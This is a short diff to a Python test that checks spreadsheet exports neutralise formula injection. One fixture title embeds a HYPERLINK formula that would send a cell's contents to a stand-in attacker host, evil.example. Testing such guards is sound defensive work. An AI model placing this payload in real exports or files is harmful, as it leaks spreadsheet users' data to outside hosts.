@@ -637,7 +637,7 @@ def test_export_guards_formulas_behind_separators_and_import_gives_text_back(
     )
     entry = InventoryEntryFactory(
         title='Schools;=HYPERLINK("http://evil.example/?d="&B1,"Open")',
-        summary="Results:\n- 300 trained\n\t+ 20 trainers, @mention;  =1+1",
+        summary="Results:\r\n- 300 trained\n\t+ 20 trainers, @mention;  =1+1",
         keywords="plain, -negative",
         organisation=organisation,
         partners=[partner],
